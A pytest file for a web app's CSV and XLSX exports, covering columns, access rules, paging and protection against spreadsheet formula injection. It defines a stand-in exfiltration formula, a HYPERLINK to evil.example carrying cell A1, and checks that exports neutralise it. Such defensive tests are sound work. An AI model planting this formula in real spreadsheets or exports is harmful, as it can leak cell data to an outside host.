"""Tables to take along: what the lists show, in files that a spreadsheet opens and never calculates."""

import csv
import io
import json

import openpyxl
import pytest

from app.core.actor import Role
from app.exports import files, tables
from app.exports.cells import in_csv
from app.exports.tables import LOG_COLUMNS, OUTCOME_COLUMNS, PERSON_COLUMNS, PITCH_COLUMNS, SIGNUP_COLUMNS
from app.weeks import queries as weeks
from app.weeks.phases import Phase
from tests.contract.test_list_routes import a_whole_pitch
from tests.world import done, refused

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"look")'


@pytest.fixture
def week(world):
    return world.week(Phase.FORMING, public=True)


def of_csv(reply):
    assert (reply.status_code, reply.headers["content-type"]) == (200, "text/csv; charset=utf-8"), reply.text
    return list(csv.DictReader(io.StringIO(reply.content.decode(), newline="")))


def of_xlsx(reply):
    assert (reply.status_code, reply.headers["content-type"]) == (200, XLSX), reply.text
    [sheet] = openpyxl.load_workbook(io.BytesIO(reply.content)).worksheets
    columns, *rows = sheet.iter_rows()
    return [dict(zip([cell.value for cell in columns], row, strict=True)) for row in rows]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"), ("-12", "-12"), ("-3.5", "-3.5"), ("+49", "+49"), (-12, "-12"), (-3.5, "-3.5"), ("a=1", "a=1"), ("", ""),
        ("-", "'-"), (None, ""), (True, "true"), ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_no_text_is_a_formula_in_csv_and_a_plain_number_stays_one(text, cell):
    assert in_csv(text) == cell


def test_pitches_have_a_row_each_in_both_kinds_of_file(ada, linus, week):
    pitch = ada.pitches(
        week, title=FORMULA, summary='Two\nlines, "quoted"; ü', tags=["@home", "b"], crew_limit=3
    )
    linus.signs_up(pitch)
    ada.pitches(week, title="Another")

    plain, book = ada.get(f"weeks/{week['slug']}/pitches.csv"), ada.get(f"weeks/{week['slug']}/pitches.xlsx")

    rows, sheet = of_csv(plain), of_xlsx(book)
    assert list(rows[0]) == list(sheet[0]) == list(PITCH_COLUMNS)
    assert [row["title"] for row in rows] == [f"'{FORMULA}", "Another"]
    assert {name: rows[0][name] for name in ("pitch_id", "summary", "tags", "crew_limit", "places_taken", "crew", "crew_home_teams", "leads", "needs_lead")} == {
        "pitch_id": pitch["id"], "summary": 'Two\nlines, "quoted"; ü', "tags": "'@home; b", "crew_limit": "3", "places_taken": "1",
        "crew": "Linus Brook", "crew_home_teams": "Payments", "leads": "Ada Quill", "needs_lead": "false",
    }  # fmt: skip
    first = sheet[0]
    assert (first["title"].value, first["title"].data_type, first["title"].hyperlink) == (FORMULA, "s", None)
    assert (first["crew_limit"].value, first["needs_lead"].value, first["tags"].value) == (
        3,
        False,
        "@home; b",
    )
    assert first["submitted_at"].value.isoformat() == "2027-01-04T09:00:00"
    assert rows[0]["submitted_at"] == "2027-01-04T09:00:00Z"
    assert (
        plain.headers["content-disposition"]
        == f'attachment; filename="offtrail-{week["slug"]}-pitches-2027-01-04.csv"'
    )
    assert book.headers["content-disposition"].endswith('pitches-2027-01-04.xlsx"')


def test_a_text_that_a_cell_can_not_hold_is_cut_in_the_workbook_alone(ada, grace, world, week):
    pitch = ada.pitches(week)
    done(
        grace.put(
            f"pitches/{pitch['id']}/outcome?reason=early",
            {"kind": "learning", "learned": "\uffff" + "x" * 40_000},
        )
    )

    [row], [cells] = of_csv(grace.get("outcomes.csv")), of_xlsx(grace.get("outcomes.xlsx"))

    assert (len(row["learned"]), cells["learned"].value) == (40_001, "x" * 32_767)


def test_sign_ups_are_shown_as_the_lists_show_them(ada, linus, grace, stranger, world, week):
    pitch = ada.pitches(week, join="ask")
    other = grace.pitches(week, title="Open to all")
    wish = linus.signs_up(pitch, message="=please")
    place = stranger.signs_up(other)
    gone = linus.signs_up(other)
    done(linus.post(f"signups/{gone['id']}/leave"))

    def ids(someone):
        return [row["signup_id"] for row in of_csv(someone.get(f"weeks/{week['slug']}/signups.csv"))]

    assert ids(ada) == ids(linus) == ids(grace) == [wish["id"], place["id"]]
    assert ids(stranger) == [place["id"]]
    asked, _ = of_csv(grace.get(f"weeks/{week['slug']}/signups.csv"))
    assert list(asked) == list(SIGNUP_COLUMNS)
    assert [asked[name] for name in ("pitch", "person", "home_team", "role", "status", "message")] == [
        pitch["title"], "Linus Brook", "Payments", "member", "asked", "'=please"
    ]  # fmt: skip
    assert [row["message"].value for row in of_xlsx(grace.get(f"weeks/{week['slug']}/signups.xlsx"))] == [
        "=please",
        "",
    ]


def test_outcomes_have_a_row_each_of_one_week_or_kind_or_all(ada, linus, world, week):
    pitch = ada.pitches(week)
    linus.signs_up(pitch)
    world.move_on(week, Phase.WRAP_UP)
    body = {
        "kind": "prototype", "summary": "-1 is not a formula", "evidence": [{"title": "It", "url": "https://example.com/a"}],
        "impact": [{"metric": "answer", "unit": "minutes", "baseline": 22, "value": 6}],
    }  # fmt: skip
    outcome = done(ada.put(f"pitches/{pitch['id']}/outcome", body))

    [row] = of_csv(ada.get("outcomes.csv"))

    assert list(row) == list(OUTCOME_COLUMNS)
    assert [row[name] for name in ("outcome_id", "version", "week", "kind", "summary", "leads", "crew", "home_teams", "impact", "evidence")] == [
        outcome["id"], "1", week["slug"], "prototype", "'-1 is not a formula", "Ada Quill", "Linus Brook", "Platform; Payments",
        "answer: 22 → 6 minutes", "https://example.com/a",
    ]  # fmt: skip
    [cells] = of_xlsx(ada.get(f"outcomes.xlsx?week={week['slug']}&kind=prototype"))
    assert (cells["evidence"].value, cells["evidence"].hyperlink, cells["seq"].value) == (
        "https://example.com/a",
        None,
        int(row["seq"]),
    )
    assert of_csv(ada.get("outcomes.csv?kind=shipped")) == []


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_outcomes_of_a_week_that_one_may_not_see_are_no_table(ada, grace, world, kind):
    draft = world.week(Phase.DRAFT)

    for slug in ("another", "A!", draft["slug"]):
        assert refused(ada.get(f"outcomes.{kind}?week={slug}")) == (404, "not_found")
    assert grace.get(f"outcomes.{kind}?week={draft['slug']}").status_code == 200


def test_people_with_their_addresses_are_for_organizers(ada, grace, linus, week):
    done(grace.post(f"people/{linus.id}/deactivate"))

    rows = of_csv(grace.get("people.csv"))

    assert list(rows[0]) == list(PERSON_COLUMNS)
    assert [(row["name"], row["email"], row["active"]) for row in rows] == [
        ("Ada Quill", ada.email, "true"), ("Grace Vale", grace.email, "true"), ("Linus Brook", linus.email, "false")
    ]  # fmt: skip
    assert [row["name"].value for row in of_xlsx(grace.get("people.xlsx?active=false"))] == ["Linus Brook"]
    for file in ("people.csv", "people.xlsx"):
        assert refused(ada.get(file)) == (403, "organizers_only")
        assert refused(grace.with_scopes("read").get(file)) == (403, "scope_missing")


def test_the_log_tells_organizers_who_did_what_with_before_and_after(ada, grace, linus, week):
    pitch = ada.pitches(week, title="A lamp")
    done(ada.patch(f"pitches/{pitch['id']}", {"title": FORMULA}))
    done(grace.patch(f"people/{linus.id}", {"name": "Linus Rill"}))

    edited, renamed = of_csv(grace.get("events.csv?types=pitch.edited,person.edited"))

    assert list(edited) == list(LOG_COLUMNS)
    assert (edited["person"], edited["subject_id"], renamed["person"]) == (
        "Ada Quill",
        pitch["id"],
        "Grace Vale",
    )
    told = json.loads(renamed["data"])
    assert (told["name_before"], told["name_after"]) == ("Linus Brook", "Linus Rill")
    assert json.loads(edited["data"])["changes"]["title"] == {"before": "A lamp", "after": FORMULA}
    assert of_csv(grace.get(f"events.csv?by={grace.id}")) == [renamed]
    assert of_csv(grace.get(f"events.csv?about={pitch['id']}&types=pitch.edited")) == [edited]
    [row] = of_xlsx(grace.get(f"events.xlsx?by={grace.id}"))
    assert str(row["seq"].value) == renamed["seq"]
    for file in ("events.csv", "events.xlsx"):
        assert refused(ada.get(file)) == (403, "organizers_only")
        assert refused(grace.get(f"{file}?types=nope")) == (422, "unknown_event_type")


def test_tables_are_visible_as_the_lists_that_they_come_from(ada, world, week):
    own, draft = world.week(), world.week(Phase.DRAFT)
    for kind in ("csv", "xlsx"):
        assert world.nobody.get(f"weeks/{week['slug']}/pitches.{kind}").status_code == 200
        assert refused(world.nobody.get(f"weeks/{own['slug']}/pitches.{kind}")) == (401, "sign_in_required")
        assert refused(world.nobody.get(f"weeks/{week['slug']}/signups.{kind}")) == (401, "sign_in_required")
        assert refused(ada.get(f"weeks/{draft['slug']}/pitches.{kind}")) == (404, "not_found")
        for path in ("outcomes", "people"):
            assert refused(world.nobody.get(f"{path}.{kind}")) == (401, "sign_in_required")
        assert refused(ada.with_scopes("outcomes:read").get(f"people.{kind}")) == (403, "scope_missing")
        assert ada.with_scopes("outcomes:read").get(f"outcomes.{kind}").status_code == 200
    assert refused(ada.get(f"weeks/{week['slug']}/pitches.pdf")) == (404, "not_found")


def test_a_table_longer_than_a_page_is_whole_and_each_row_is_in_it_once(ada, grace, world, week, monkeypatch):
    monkeypatch.setattr("app.exports.tables.PAGE", 2)
    people = [ada, grace, world.person("Linus Brook"), world.person("Linus Brook"), world.person("Ada Quill")]
    pitches = [ada.pitches(week, title=f"Same {number % 2}") for number in range(5)]
    for someone, pitch in zip(people, pitches, strict=True):
        someone.signs_up(pitch)
        done(grace.put(f"pitches/{pitch['id']}/outcome?reason=early", {"kind": "learning"}))

    found = {
        path: [row[column] for row in of_csv(grace.get(f"{path}.csv"))]
        for path, column in [(f"weeks/{week['slug']}/pitches", "pitch_id"), (f"weeks/{week['slug']}/signups", "person_id"), ("outcomes", "pitch_id"), ("people", "person_id")]
    }  # fmt: skip
    books = {
        path: [row[columns].value for row in of_xlsx(grace.get(f"{path}.xlsx"))]
        for path, columns in [("outcomes", "pitch_id"), ("people", "person_id")]
    }

    ids = sorted(pitch["id"] for pitch in pitches)
    signups, outcomes = found[f"weeks/{week['slug']}/signups"], found["outcomes"]
    assert sorted(found[f"weeks/{week['slug']}/pitches"]) == ids
    assert (signups, outcomes) == ([person.id for person in people], [pitch["id"] for pitch in pitches])
    assert {person.id for person in people} <= set(found["people"])
    assert len(found["people"]) == len(set(found["people"])) == 5
    assert books == {path: found[path] for path in books}


def test_a_table_costs_as_many_statements_for_three_rows_as_for_one(world, week):
    admin = world.person("Root", None, Role.ADMIN)

    def cost():
        pitch = a_whole_pitch(world, week)
        done(admin.put(f"pitches/{pitch['id']}/outcome?reason=early", {"kind": "learning"}))
        admin.get("outcomes")  # numbers what is new in the log
        with world.counted() as statements:
            for path in (
                f"weeks/{week['slug']}/pitches.csv",
                f"weeks/{week['slug']}/signups.csv",
                "outcomes.csv",
                "people.csv",
            ):
                assert admin.get(path).status_code == 200
        return len(statements)

    one, _, three = cost(), cost(), cost()

    assert one == three


def test_a_reader_who_takes_their_time_holds_no_connection(grace, world, week):
    for number in range(3):
        grace.pitches(week, title=f"Pitch {number}")
    with world.db.reading() as session:
        pieces = files.csv_pieces(world.db, tables.of_pitches(weeks.by_slug(session, week["slug"])))
    head = next(pieces)

    next(pieces)

    assert (head, world.db.engine.pool.checkedout()) == (",".join(PITCH_COLUMNS).encode() + b"\r\n", 0)
